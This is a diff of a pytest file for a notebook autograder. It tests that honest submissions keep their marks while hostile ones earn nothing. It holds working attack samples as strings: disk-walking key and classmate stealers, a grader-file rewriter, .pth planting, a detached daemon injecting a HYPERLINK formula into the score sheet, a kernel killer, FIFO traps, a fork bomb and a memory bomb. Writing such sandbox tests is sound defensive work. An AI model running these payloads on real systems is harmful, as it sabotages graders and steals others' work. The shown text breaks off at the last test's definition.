@@ -1,18 +1,32 @@
-"""The batch grader end to end (DESIGN.md §5; issue 'The book's foundation', item 9).
+"""Grading a whole class in one run, honest and hostile submissions mixed (issue 18).
 
-Submissions are made in a temporary folder from the real reference notebook of chapter 1
-(exercises/01_roofline.ipynb) and graded by the command line, the way an instructor runs it:
-reference answers, a blank student copy, a cell that raises, an endless loop, a notebook that
-fakes check(), one that monkeypatches the registry and the library, a text file and a truncated
-notebook. Small time limits keep the whole file near a minute on 2 cores.
+One ``grade`` run over a folder holding the reference notebook of every chapter (each must score
+full marks), honest variations (BOM + CRLF, nbformat 3, a blank copy, one absurd answer, a huge
+output) and one submission per attack class of the issue: reading the answer key, reading a
+classmate, a symlink to a classmate or to /dev/zero, a named pipe in the folder and in place of
+the runner's files, rewriting the grader's files, planting a ``.pth`` file, a background process
+that edits the score sheet after the grader exits, killing other kernels. The grader must give no
+unearned mark, keep every honest mark and write every row. A second, small run checks the limits
+(time, memory, processes, kernel death, fakes) on tiny notebooks, and a third per-student
+variants with a roster and the exports.
+
+The attacks that need the sandbox to be harmless run only when bubblewrap works here (``make test``
+installs it as root); without it those tests are skipped with the grader's own warning as reason.
+Each run is computed once per test session, also under pytest-xdist (a file lock).
 """
 from __future__ import annotations
 
 import copy
 import csv
+import fcntl
+import hashlib
+import io
 import json
-import subprocess
-import sys
+import os
+import resource
+import shutil
+import time
+import uuid
 from pathlib import Path
 
 import pytest
@@ -20,25 +34,48 @@ import pytest
 nbformat = pytest.importorskip("nbformat")
 
 from scaling_lib import grading  # noqa: E402
-from scaling_lib.exercises import for_chapter  # noqa: E402
+from scaling_lib.exercises import chapter_params, draw, for_chapter  # noqa: E402
+from scaling_lib.grading import _batch, _sandbox  # noqa: E402
 
 ROOT = Path(__file__).resolve().parents[1]
-REF = ROOT / "exercises" / "01_roofline.ipynb"
-EX1 = [e.id for e in for_chapter(1)]
-MAX1 = sum(e.points for e in for_chapter(1))
-SEED = 7
+REFS = sorted((ROOT / "exercises").glob("*.ipynb"))
+REF1 = ROOT / "exercises" / "01_roofline.ipynb"
+MAX = {c: sum(e.points for e in for_chapter(c)) for c in range(13)}
+MARKER = "EVIL_DAEMON_" + uuid.uuid4().hex[:8]
 
 
-def _cell_of(nb, ex_id: str) -> int:
-    hits = [i for i, c in enumerate(nb.cells)
-            if c.cell_type == "code" and (f'check("{ex_id}"' in c.source or f"check('{ex_id}'" in c.source)]
-    assert len(hits) == 1, f"exactly one answer cell for {ex_id} expected in {REF.name}"
-    return hits[0]
+def _iso():
+    iso = _sandbox.detect("auto")
+    if not iso.strong:
+        return iso, iso.reason
+    sb = _sandbox.Sandbox(iso, memory_mb=2048, timeout_notebook=60)
+    try:
+        why = sb.self_test()
+    finally:
+        sb.close()
+    return iso, why
 
 
-def _import_cell(nb) -> int:
-    return next(i for i, c in enumerate(nb.cells)
-                if c.cell_type == "code" and "from scaling_lib.grading import check" in c.source)
+ISO, WEAK = _iso()
+needs_sandbox = pytest.mark.skipif(WEAK is not None, reason=f"no working bubblewrap sandbox here: {WEAK}")
+
+
+def _shared(tmp_path_factory, name, compute):
+    """``compute(folder)`` once per session, even with several xdist workers; its JSON result."""
+    base = tmp_path_factory.getbasetemp()
+    if os.environ.get("PYTEST_XDIST_WORKER"):
+        base = base.parent
+    folder = base / name
+    result = base / f"{name}.json"
+    with open(base / f"{name}.lock", "w") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        if not result.exists():
+            if folder.exists():
+                shutil.rmtree(folder)
+            folder.mkdir()
+            data = compute(folder)
+            result.write_text(json.dumps(data), encoding="utf-8")
+        return json.loads(result.read_text(encoding="utf-8"))
 
 
 def _clean(nb):
@@ -49,182 +86,6 @@ def _clean(nb):
     return nb
 
 
-def _prefix(nb, ex_id, code):
-    nb = _clean(nb)
-    i = _cell_of(nb, ex_id)
-    nb.cells[i].source = code + "\n" + nb.cells[i].source
-    return nb
-
-
-def _insert(nb, at, code):
-    nb = _clean(nb)
-    cell = nbformat.v4.new_code_cell(code)
-    cell["id"] = f"inserted{at}"
-    nb.cells.insert(at, cell)
-    return nb
-
-
-FAKE_CHECK = """\
-import scaling_lib.grading as G
-def check(ex_id, answer):
-    print("✅ 对了。")
-    return G.CheckResult(ex_id, True, "✅ 对了。")
-G.check = check
-G.evaluate = lambda ex, answer, **kw: G.CheckResult(ex.id, True, "✅ 对了。")
-"""
-FAKE_ANSWERS = """\
-i_crit = 1.0
-times = [1.0, 1.0]
-two_chip_bound = "A"
-def matmul_intensity(B, D, F):
-    return 0.0
-check("1.2", i_crit)
-"""
-MONKEYPATCH = """\
-import dataclasses
-import scaling_lib.exercises as E, scaling_lib.roofline as R, scaling_lib.hardware as H
-reg = E.registry()
-for k, ex in list(reg.items()):
-    reg[k] = dataclasses.replace(ex, expected=lambda: 1.0, rtol=1e9) if ex.kind == "number" else ex
-E.get = lambda i: reg[i]
-R.critical_batch = lambda *a, **k: 1.0
-H.critical_intensity = lambda *a, **k: 1.0
-E._REGISTRY = reg
-i_crit = H.critical_intensity("v5e")
-b_crit = R.critical_batch("v5e")
-dot_limit = 1.0
-b_crit_h100 = 1.0
-open("written_by_submission.txt", "w").write("the grader runs me in a scratch copy")
-"""
-
-
-@pytest.fixture(scope="module")
-def graded(tmp_path_factory):
-    if not REF.exists():
-        pytest.fail(f"{REF.relative_to(ROOT)} is missing: the e2e grader tests need it")
-    ref = nbformat.read(REF, as_version=4)
-    d = tmp_path_factory.mktemp("submissions")
-    subs = {
-        "ref": _clean(ref),
-        "blank": grading.strip_notebook(ref, REF.name),
-        "raises": _prefix(ref, "1.2", 'raise RuntimeError("oops")'),
-        "loop": _prefix(ref, "1.3b", "while True:\n    pass"),
-        "fakecheck": _insert(_insert(ref, len(ref.cells), FAKE_ANSWERS), _import_cell(ref) + 1, FAKE_CHECK),
-        "monkey": _insert(ref, len(ref.cells), MONKEYPATCH),
-    }
-    files = []
-    for name, nb in subs.items():
-        p = d / f"{name}_01_roofline.ipynb"
-        nbformat.write(nb, p)
-        files.append(p)
-    (d / "x.ipynb").write_text("这不是 notebook，只是一段文字。\n", encoding="utf-8")
-    (d / "trunc_01_roofline.ipynb").write_text(files[0].read_text(encoding="utf-8")[:3000], encoding="utf-8")
-    files += [d / "x.ipynb", d / "trunc_01_roofline.ipynb"]
-    out = d / "scores.csv"
-    cmd = [sys.executable, "-m", "scaling_lib.grading", "grade", *map(str, files), "--out", str(out),
-           "--timeout-cell", "10", "--timeout-notebook", "120", "--jobs", "2", "--seed", str(SEED)]
-    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600, cwd=d)
-    data = json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))
-    by_student = {s["student"]: s for s in data["submissions"]}
-    with open(out, encoding="utf-8", newline="") as f:
-        rows = list(csv.reader(f))
-    return {"proc": proc, "data": data, "s": by_student, "rows": rows, "dir": d}
-
-
-def _points(sub):
-    return {i: e["points"] for i, e in sub["exercises"].items()}
-
-
-def test_cli_exits_zero_and_prints_summary(graded):
-    p = graded["proc"]
-    assert p.returncode == 0, p.stderr
-    assert "学生" in p.stdout and "得分" in p.stdout and "共 8 份" in p.stdout
-
-
-def test_reference_answers_get_full_marks(graded):
-    s = graded["s"]["ref"]
-    assert s["status"] == "完成", s["notes"]
-    assert s["total"] == s["max"] == MAX1
-    assert all(e["correct"] and e["message"].startswith("✅") for e in s["exercises"].values())
-
-
-def test_grading_one_submission_takes_under_30_s(graded):
-    assert graded["s"]["ref"]["seconds"] < 30
-
-
-def test_blank_student_copy_scores_zero(graded):
-    s = graded["s"]["blank"]
-    assert s["status"] == "完成" and s["total"] == 0 and s["max"] == MAX1
-    msgs = [e["message"] for e in s["exercises"].values()]
-    assert all(m.startswith("❌") for m in msgs)
-    assert "❌ 还没作答：把 `...` 换成你的结果再运行。" in msgs
-
-
-def test_a_raising_cell_costs_only_its_question(graded):
-    s = graded["s"]["raises"]
-    pts = _points(s)
-    assert pts["1.2"] == 0 and s["total"] == MAX1 - 1
-    assert "RuntimeError" in "；".join(s["notes"])
-
-
-def test_endless_loop_is_timed_out_and_the_rest_graded(graded):
-    s = graded["s"]["loop"]
-    pts = _points(s)
-    assert pts["1.3b"] == 0 and s["total"] == MAX1 - 1
-    assert s["status"] == "部分超时" and any("超时" in n for n in s["notes"])
-    assert s["seconds"] < 60
-
-
-def test_fake_check_earns_nothing_it_did_not_answer(graded):
-    s = graded["s"]["fakecheck"]
-    pts = _points(s)
-    for i in ("1.1", "1.2", "1.4", "1.5b"):
-        assert pts[i] == 0, i
-    assert s["total"] == MAX1 - 4
-    m = s["exercises"]["1.5b"]["message"]
-    assert m.startswith("❌ 不是 A。")
-    # the answer cell had the right value; a later cell changed it: the instructor is told
-    assert "运行到 check(\"1.5b\") 那一格时 `two_chip_bound` 还是对的" in m
-    assert "那一格时" not in s["exercises"]["1.2"]["message"]  # 1.2 was wrong at its check() too
-
-
-def test_monkeypatching_the_library_earns_nothing(graded):
-    s = graded["s"]["monkey"]
-    pts = _points(s)
-    for i in ("1.2", "1.3b", "1.4b", "1.10"):
-        assert pts[i] == 0, i
-    assert s["total"] == MAX1 - 4
-
-
-def test_broken_files_score_zero_with_reason(graded):
-    x, t = graded["s"]["x"], graded["s"]["trunc"]
-    assert x["total"] == 0 and x["status"] == "无效文件" and "不是 notebook 文件" in x["notes"][0]
-    assert t["total"] == 0 and t["status"] == "无效文件" and "JSON 解析失败" in t["notes"][0]
-    assert x["max"] == t["max"] == MAX1  # same chapter as the rest of the run
-
-
-def test_score_sheet_columns(graded):
-    rows = graded["rows"]
-    assert rows[0] == ["file", "student", "total", "max", *EX1, "status", "notes"]
-    assert len(rows) == 1 + 8
-    ref = next(r for r in rows if r[1] == "ref")
-    assert ref[2] == ref[3] == grading._num(MAX1) and ref[4:4 + len(EX1)] == ["1"] * len(EX1)
-    x = next(r for r in rows if r[1] == "x")
-    assert x[2] == "0" and x[-2] == "无效文件" and x[-1]
-    data = graded["data"]
-    assert data["exercises"] == EX1 and data["settings"]["seed"] == SEED
-
-
-def test_submissions_ran_in_scratch_copies(graded):
-    leftovers = sorted(p.name for p in graded["dir"].iterdir())
-    assert leftovers == sorted(["blank_01_roofline.ipynb", "fakecheck_01_roofline.ipynb",
-                                "loop_01_roofline.ipynb", "monkey_01_roofline.ipynb",
-                                "raises_01_roofline.ipynb", "ref_01_roofline.ipynb", "scores.csv",
-                                "scores.json", "trunc_01_roofline.ipynb", "x.ipynb"])
-
-
-# ---- limits on small synthetic notebooks (no JAX: fast) ---------------------------------------
-
 def _tiny(cells):
     nb = nbformat.v4.new_notebook()
     nb.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
@@ -232,27 +93,556 @@ def _tiny(cells):
     return nb
 
 
-def test_notebook_limit_kernel_death_and_memory_limit(tmp_path):
-    subs = {
-        "slow": ["i_crit = 240.2  # check('1.2', i_crit)", "import time\ntime.sleep(3)",
-                 "time.sleep(3)", "time.sleep(3)", "time.sleep(3)", "two_chip_bound = 'B'"],
-        "dies": ["i_crit = 240.2  # check('1.2', i_crit)", "import os\nos._exit(1)", "two_chip_bound = 'B'"],
-        "hog": ["i_crit = 240.2  # check('1.2', i_crit)", "import numpy as np\nbig = np.ones(2**28)\nb_crit = 240.2",
-                "two_chip_bound = 'B'"],
-    }
+def _append(nb, code):
+    nb = _clean(nb)
+    cell = nbformat.v4.new_code_cell(code)
+    cell["id"] = f"extra{len(nb.cells)}"
+    nb.cells.append(cell)
+    return nb
+
+
+def _sources_hash() -> str:
+    h = hashlib.sha256()
+    for p in sorted((ROOT / "scaling_lib").rglob("*.py")) + REFS:
+        h.update(p.read_bytes())
+    return h.hexdigest()
+
+
+def _site_dirs():
+    import site
+    import sysconfig
+    dirs = set(site.getsitepackages() + [site.getusersitepackages(), sysconfig.get_paths()["purelib"]])
+    return sorted(d for d in dirs if d and os.path.isdir(d))
+
+
+# ---- the attacks (run inside the submission's kernel) ------------------------------------------------
+
+ANSWER_VARS = "times i_crit dot_limit b_crit two_chip two_chip_bound b_crit_int8 b_crit_w8".split()
+CH1_CHECKS = "".join(f'# check("1.{i}")\n' for i in (1, 2, 4))
+
+KEY_READER = CH1_CHECKS + """
+import os, glob, time
+found = []
+try:                                   # 1. the registry in the library the kernel imports
+    from scaling_lib.exercises import get
+    for i, v in [("1.2", "i_crit"), ("1.3b", "dot_limit"), ("1.4b", "b_crit"), ("1.1", "times")]:
+        globals()[v] = get(i).reference()
+    found.append("registry")
+except Exception:
+    pass
+try:                                   # 2. a grader that can still judge: evaluate() with the key
+    import scaling_lib.grading as G
+    if hasattr(G, "evaluate"):
+        found.append("grader")
+except Exception:
+    pass
+for p in [%(refs)r, "/exercises", "/work", os.path.expanduser("~")]:   # 3. the reference notebooks
+    for f in glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True)[:50]:
+        try:
+            text = open(f, encoding="utf-8").read()
+        except Exception:
+            continue
+        if "BEGIN SOLUTION" in text:
+            found.append(f)
+            i_crit = 240.24
+t0 = time.time()
+for d, dirs, files in os.walk("/"):    # 4. anything on the disk that looks like the key
+    if time.time() - t0 > 8 or d.startswith(("/proc", "/sys", "/dev")):
+        dirs[:] = []
+        continue
+    for f in files:
+        if f in ("ch01.py", "01_roofline.ipynb", "_judge.py") or f.endswith(".ipynb"):
+            found.append(os.path.join(d, f))
+            b_crit = 240.24
+print("FOUND", found)
+"""
+
+CLASSMATE_READER = CH1_CHECKS + """
+import os, json, time
+t0, stolen = time.time(), []
+for d, dirs, files in os.walk("/"):
+    if time.time() - t0 > 8 or d.startswith(("/proc", "/sys", "/dev", "/usr")):
+        dirs[:] = []
+        continue
+    for f in files:
+        if f.endswith(".ipynb") or f.endswith(".json"):
+            try:
+                nb = json.load(open(os.path.join(d, f), encoding="utf-8"))
+                code = [''.join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
+            except Exception:
+                continue
+            if any('check("1.2"' in c for c in code):
+                stolen.append(os.path.join(d, f))
+                for c in code:
+                    try:
+                        exec(c.replace("check(", "print("), globals())
+                    except Exception:
+                        pass
+print("STOLEN", stolen)
+"""
+
+REWRITER = CH1_CHECKS + """
+import os, sys, glob
+hit = []
+import scaling_lib
+targets = glob.glob(os.path.join(os.path.dirname(scaling_lib.__file__), "**", "*.py"), recursive=True)
+targets += glob.glob(%(root)r + "/scaling_lib/**/*.py", recursive=True) + glob.glob("/grader/**/*.py", recursive=True)
+for f in targets:
+    try:
+        with open(f, "a") as fh:
+            fh.write("\\nraise SystemExit('pwned by a submission')\\n")
+        hit.append(f)
+    except Exception:
+        pass
+for f in glob.glob(%(root)r + "/exercises/*.ipynb"):
+    try:
+        open(f, "w").write("{}")
+        hit.append(f)
+    except Exception:
+        pass
+print("REWROTE", hit)
+"""
+
+PTH = CH1_CHECKS + """
+import os, sys, site, sysconfig
+payload = "import os; os.environ.get('GRADER_REPORT_FD') and os._exit(3)\\n"
+planted = []
+dirs = set(sys.path) | set(site.getsitepackages()) | {site.getusersitepackages(), sysconfig.get_paths()["purelib"]}
+dirs |= set(%(sites)r)
+for d in dirs:
+    try:
+        os.makedirs(d, exist_ok=True)
+        with open(os.path.join(d, "zz_evil_%(tag)s.pth"), "w") as f:
+            f.write(payload)
+        planted.append(d)
+    except Exception:
+        pass
+print("PLANTED", planted)
+"""
+
+DAEMON = CH1_CHECKS + """
+import os, sys, time
+code = '''
+import os, time, glob
+t0 = time.time()
+while time.time() - t0 < 40:
+    for p in glob.glob("/proc/[0-9]*/cwd") + [%(sheet)r, "/proc/1/cwd/scores.csv"]:
+        for f in ([p] if p.endswith(".csv") else [os.path.join(p, "scores.csv"), os.path.join(p, "..", "scores.csv")]):
+            try:
+                with open(f, "a") as fh:
+                    fh.write('=HYPERLINK("http://evil","x")\\\\n')
+            except Exception:
+                pass
+    time.sleep(0.5)
+'''
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", code, %(marker)r])
+    os._exit(0)
+time.sleep(1)
+"""
+
+KILLER = CH1_CHECKS + """
+import os, signal, time
+me, killed = os.getpid(), []
+t0 = time.time()
+while time.time() - t0 < 25:
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or int(pid) in (me, os.getppid()):
+            continue
+        try:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
+        except Exception:
+            continue
+        if b"kernel.py" in cmd or b"ipykernel" in cmd or b"runner.py" in cmd:
+            try:
+                os.kill(int(pid), signal.SIGKILL)
+                killed.append(int(pid))
+            except Exception:
+                pass
+    time.sleep(0.2)
+print("KILLED", killed)
+"""
+
+FIFO_EVERYWHERE = """
+import os, stat, glob
+made = []
+dirs = {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.path.expanduser("~")}
+dirs |= {d for d in glob.glob("/tmp/*") if os.path.isdir(d)}
+for d in dirs:
+    for name in os.listdir(d) + ["runner.log", "report.json", "report.tmp", "job.json"]:
+        p = os.path.join(d, name)
+        try:
+            if os.path.isdir(p):
+                continue
+            if os.path.exists(p):
+                os.unlink(p)
+            os.mkfifo(p)
+            made.append(p)
+        except Exception:
+            pass
+io_dir = "/tmp/grader-io"
+if os.path.isdir(io_dir):                     # predict the next answer files: FIFOs there too
+    names = sorted(os.listdir(io_dir))
+    for n in names:
+        stem = n.split(".")[0]
+        if "-" in stem:
+            nonce, k = stem.rsplit("-", 1)
+            for j in range(int(k) + 1, int(k) + 40):
+                try:
+                    os.mkfifo(os.path.join(io_dir, f"{nonce}-{j}.json"))
+                except Exception:
+                    pass
+print("FIFOS", len(made))
+"""
+
+BIG_OUTPUT = """
+import os, sys
+chunk = "x" * (1 << 20)
+for _ in range(200):
+    print(chunk)
+for _ in range(100):
+    os.write(1, b"y" * (1 << 20))
+    os.write(2, b"z" * (1 << 20))
+from IPython.display import display
+display({"text/plain": "w" * (50 << 20)}, raw=True)
+"""
+
+DEV_ZERO = CH1_CHECKS + """
+data = open("/dev/zero", "rb").read()
+i_crit = 240.24
+"""
+
+
+def _class_run(folder: Path) -> dict:
+    subs = folder / "class"
+    subs.mkdir()
+    out = folder / "gradebook" / "scores.csv"
+    ref1 = nbformat.read(REF1, as_version=4)
+    sheet_guess = str(out)
+
+    def write(name, nb):
+        nbformat.write(nb, subs / f"{name}.ipynb")
+
+    # honest
+    for p in REFS:
+        write(f"honest{p.stem[:2]}_{p.stem}", _clean(nbformat.read(p, as_version=4)))
+    text = nbformat.writes(_clean(ref1))
+    (subs / "bomcrlf_01_roofline.ipynb").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
+    (subs / "nbv3_01_roofline.ipynb").write_text(nbformat.writes(nbformat.convert(_clean(ref1), 3), version=3),
+                                                 encoding="utf-8")
+    write("blank_01_roofline", grading.strip_notebook(ref1, REF1.name))
+    tiny_answer = _clean(ref1)
+    i = next(k for k, c in enumerate(tiny_answer.cells) if 'check("1.2"' in c.source)
+    tiny_answer.cells[i].source = tiny_answer.cells[i].source.replace("check(", "i_crit = 5e-324\ncheck(")
+    write("tinyanswer_01_roofline", tiny_answer)
+    write("bigoutput_01_roofline", _append(ref1, BIG_OUTPUT))
+    write("fifolog_01_roofline", _append(ref1, FIFO_EVERYWHERE))
+    # hostile, tiny (they answer nothing honestly: every mark they get is unearned)
+    if WEAK is None:
+        write("a1killer_01_roofline", _tiny([KILLER]))
+        write("a2pth_01_roofline", _tiny([PTH % {"sites": _site_dirs(), "tag": MARKER}]))
+        write("a3rewriter_01_roofline", _tiny([REWRITER % {"root": str(ROOT)}]))
+        write("a4keyreader_01_roofline", _tiny([KEY_READER % {"refs": str(ROOT / "exercises")}]))
+        write("a5classmate_01_roofline", _tiny([CLASSMATE_READER]))
+        write("a6daemon_01_roofline", _tiny([DAEMON % {"sheet": sheet_guess, "marker": MARKER}]))
+        write("a7devzero_01_roofline", _tiny([DEV_ZERO]))
+    (subs / "a8symlink_01_roofline.ipynb").symlink_to(subs / "honest01_01_roofline.ipynb")
+    (subs / "a9zero_01_roofline.ipynb").symlink_to("/dev/zero")
+    os.mkfifo(subs / "b0fifo_01_roofline.ipynb")
+
+    before = _sources_hash()
+    _batch._devices_for_expected_values()  # JAX for expected values: loaded before the baseline
+    rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    t0 = time.monotonic()
+    res = grading.grade([subs], out, timeout_cell=60, timeout_notebook=150, jobs=2, seed=5, quiet=True)
+    took = time.monotonic() - t0
+    rss1 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    sheet = out.read_bytes()
+    time.sleep(4)  # a daemon that survived would write to the sheet now
+    alive = []
+    for pid in os.listdir("/proc"):
+        try:
+            if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
+                alive.append(pid)
+        except OSError:
+            pass
+    planted = [str(p) for d in _site_dirs() for p in Path(d).glob(f"zz_evil_{MARKER}.pth")]
+    for p in planted:  # never leave one behind, even when the test fails
+        os.unlink(p)
+    return {"results": {Path(r.file).name: r.as_dict() for r in res}, "took": took,
+            "rss_growth_mb": (rss1 - rss0) / 1024, "sheet_same": out.read_bytes() == sheet,
+            "sheet": sheet.decode("utf-8-sig"), "alive": alive, "planted": planted,
+            "sources_same": _sources_hash() == before, "files": sorted(p.name for p in subs.iterdir()),
+            "feedback": sorted(p.name for p in (out.parent / "feedback").iterdir())}
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory):
+    return _shared(tmp_path_factory, "grader_class_run", _class_run)
+
+
+def _r(run, name):
+    return run["results"][f"{name}.ipynb"]
+
+
+# ---- honest marks are kept ---------------------------------------------------------------------------
+
+@pytest.mark.parametrize("ref", REFS, ids=[p.stem for p in REFS])
+def test_every_reference_notebook_scores_full_marks(run, ref):
+    s = _r(run, f"honest{ref.stem[:2]}_{ref.stem}")
+    assert s["total"] == s["max"] == MAX[int(ref.stem[:2])], {k: v["message"] for k, v in s["exercises"].items()
+                                                                if not v["correct"]}
+    assert all(v["source"] == "check" for v in s["exercises"].values())  # each at its own check()
+
+
+def test_bom_crlf_and_nbformat3_are_graded_like_the_original(run):
+    for name in ("bomcrlf_01_roofline", "nbv3_01_roofline"):
+        s = _r(run, name)
+        assert s["total"] == MAX[1] and s["status"] == "完成", (name, s["notes"])
+
+
+def test_one_absurd_answer_costs_that_question_only(run):
+    s = _r(run, "tinyanswer_01_roofline")
+    assert s["total"] == MAX[1] - 1 and s["status"] == "完成"
+    assert s["exercises"]["1.2"]["message"].startswith("❌ 差了大约")
+
+
+def test_blank_copy_scores_zero_with_messages(run):
+    s = _r(run, "blank_01_roofline")
+    assert s["status"] == "完成" and s["total"] == 0 and s["max"] == MAX[1]
+    assert "❌ 还没作答：把 `...` 换成你的结果再运行。" in [e["message"] for e in s["exercises"].values()]
+
+
+def test_huge_output_costs_nothing_and_grader_memory_stays_small(run):
+    s = _r(run, "bigoutput_01_roofline")
+    assert s["total"] == MAX[1], s["notes"]
+    assert run["rss_growth_mb"] < 200, run["rss_growth_mb"]  # 400 MB of output went through
+
+
+def test_fifos_in_place_of_the_runners_files_do_not_hang_anything(run):
+    s = _r(run, "fifolog_01_roofline")
+    assert s["total"] == MAX[1], s["notes"]  # its honest answers were read at each check()
+    assert s["seconds"] < 150
+
+
+# ---- every row is written, files that are not notebooks get a reason ----------------------------------
+
+def test_every_submission_has_a_row_and_a_feedback_file(run):
+    rows = list(csv.reader(io.StringIO(run["sheet"])))
+    names = {Path(r[0]).name for r in rows[1:]}
+    assert names == set(run["files"])
+    assert len(run["feedback"]) == len(run["files"])
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "+", "@")) and not cell.startswith("-"), cell
+
+
+def test_links_and_pipes_in_the_folder_are_refused_with_a_reason(run):
+    assert "符号链接" in _r(run, "a8symlink_01_roofline")["notes"][0]
+    assert "符号链接" in _r(run, "a9zero_01_roofline")["notes"][0]
+    assert "命名管道" in _r(run, "b0fifo_01_roofline")["notes"][0]
+    for name in ("a8symlink_01_roofline", "a9zero_01_roofline", "b0fifo_01_roofline"):
+        s = _r(run, name)
+        assert s["total"] == 0 and s["max"] == MAX[1] and s["status"] == "无效文件"
+
+
+# ---- no unearned mark, and nobody hurts anybody else ---------------------------------------------------
+
+HOSTILE = ["a1killer_01_roofline", "a2pth_01_roofline", "a3rewriter_01_roofline", "a4keyreader_01_roofline",
+           "a5classmate_01_roofline", "a6daemon_01_roofline", "a7devzero_01_roofline"]
+
+
+@needs_sandbox
+@pytest.mark.parametrize("name", HOSTILE)
+def test_attacks_earn_nothing(run, name):
+    s = _r(run, name)
+    assert s["total"] == 0, {k: v["message"] for k, v in s["exercises"].items() if v["correct"]}
+    assert s["max"] == MAX[1]
+
+
+@needs_sandbox
+def test_no_attack_changed_the_grader_the_key_or_the_sheet(run):
+    assert run["sources_same"], "a submission rewrote the grader's files or the reference notebooks"
+    assert run["planted"] == [], "a .pth file survived the grading run"
+    assert run["alive"] == [], "a process started by a submission outlived the grading run"
+    assert run["sheet_same"] and "HYPERLINK" not in run["sheet"]
+
+
+@needs_sandbox
+def test_a_memory_bomb_through_dev_zero_is_contained(run):
+    s = _r(run, "a7devzero_01_roofline")
+    assert any("内存" in n or "MemoryError" in n for n in s["notes"]), s["notes"]
+
+
+def test_the_run_fits_in_a_class_sized_time(run):
+    assert run["took"] < 600
+
+
+# ---- limits, fakes and crashes on tiny notebooks (a second, short run) ---------------------------------
+
+FAKE_CHECK = """\
+import scaling_lib.grading as G
+G.check = lambda *a, **k: print("✅ 对了。")
+def check(ex_id, answer):
+    print("✅ 对了。")
+i_crit = 1.0
+check("1.2", i_crit)
+"""
+MONKEYPATCH = """\
+import scaling_lib.roofline as R, scaling_lib.hardware as H
+R.critical_batch = lambda *a, **k: 1.0
+H.critical_intensity = lambda *a, **k: 1.0
+i_crit = H.critical_intensity("v5e")  # check("1.2", i_crit)
+b_crit = R.critical_batch("v5e")
+"""
+FORK_BOMB = """\
+import os, time
+n = 0
+try:
+    for _ in range(5000):
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+        n += 1
+except OSError:
+    pass
+print("forked", n)
+b_crit = 240.2
+"""
+LIMIT_SUBS = {
+    "slow": ["i_crit = 240.2  # check('1.2', i_crit)", "import time\ntime.sleep(4)", "time.sleep(4)",
+             "time.sleep(4)", "time.sleep(4)", "two_chip_bound = 'B'"],
+    "dies": ["i_crit = 240.2  # check('1.2', i_crit)", "import os\nos._exit(1)", "two_chip_bound = 'B'"],
+    "hog": ["i_crit = 240.2  # check('1.2', i_crit)", "import numpy as np\nbig = np.ones(2**28)\nb_crit = 240.2",
+            "two_chip_bound = 'B'"],
+    "loop": ["i_crit = 240.2  # check('1.2', i_crit)", "while True:\n    pass", "two_chip_bound = 'B'"],
+    "forkbomb": ["i_crit = 240.2  # check('1.2', i_crit)", FORK_BOMB, "two_chip_bound = 'B'"],
+    "fakecheck": [FAKE_CHECK],
+    "monkey": [MONKEYPATCH],
+    "raises": ["raise RuntimeError('oops')\ni_crit = 240.2  # check('1.2', i_crit)", "two_chip_bound = 'B'"],
+}
+
+
+def _limits_run(folder: Path) -> dict:
     files = []
-    for name, cells in subs.items():
-        p = tmp_path / f"{name}_01_roofline.ipynb"
+    for name, cells in LIMIT_SUBS.items():
+        if name == "forkbomb" and WEAK is not None:
+            continue  # without the sandbox nothing caps the processes of one submission
+        p = folder / f"{name}_01_roofline.ipynb"
         nbformat.write(_tiny(cells), p)
         files.append(p)
-    out = tmp_path / "s.csv"
-    res = grading.grade(files, out, timeout_cell=5, timeout_notebook=8, memory_mb=1024, jobs=2,
-                        seed=1, quiet=True)
-    r = {x.student: x for x in res}
-    assert r["slow"].status == "超时" and r["slow"].scores["1.2"] == 1 and r["slow"].scores["1.5b"] == 0
-    assert any("时间上限" in n for n in r["slow"].notes)
-    assert r["dies"].status == "内核崩溃" and r["dies"].total == 1 and r["dies"].scores["1.2"] == 1
-    hog = r["hog"]  # 2 GiB > 1 GiB limit: MemoryError in that cell only
-    assert hog.scores["1.2"] == 1 and hog.scores["1.5b"] == 1 and hog.scores["1.4b"] == 0
-    assert any("MemoryError" in n for n in hog.notes)
-    assert out.exists() and out.with_suffix(".json").exists()
+    out = folder / "s.csv"
+    t0 = time.monotonic()
+    res = grading.grade(files, out, timeout_cell=5, timeout_notebook=14, memory_mb=1024, jobs=2,
+                        seed=1, quiet=True, feedback=None)
+    return {"results": {r.student: r.as_dict() for r in res}, "took": time.monotonic() - t0}
+
+
+@pytest.fixture(scope="module")
+def limits(tmp_path_factory):
+    return _shared(tmp_path_factory, "grader_limits_run", _limits_run)
+
+
+def _pts(s):
+    return {i: e["points"] for i, e in s["exercises"].items()}
+
+
+def test_notebook_time_limit_keeps_what_was_read(limits):
+    s = limits["results"]["slow"]
+    assert s["status"] == "超时" and _pts(s)["1.2"] == 1 and _pts(s)["1.5b"] == 0
+    assert any("时间上限" in n for n in s["notes"])
+
+
+def test_kernel_death_keeps_earlier_answers(limits):
+    s = limits["results"]["dies"]
+    assert s["status"] == "内核崩溃" and s["total"] == 1 and _pts(s)["1.2"] == 1
+
+
+def test_memory_limit_is_a_memory_error_in_that_cell_only(limits):
+    s = limits["results"]["hog"]  # 2 GiB > 1 GiB
+    assert _pts(s)["1.2"] == 1 and _pts(s)["1.5b"] == 1 and _pts(s)["1.4b"] == 0
+    assert any("MemoryError" in n for n in s["notes"])
+
+
+def test_endless_loop_costs_its_cell_only(limits):
+    s = limits["results"]["loop"]
+    assert s["status"] == "部分超时" and _pts(s)["1.2"] == 1 and _pts(s)["1.5b"] == 1
+
+
+@needs_sandbox
+def test_fork_bomb_is_capped_and_costs_nothing_else(limits):
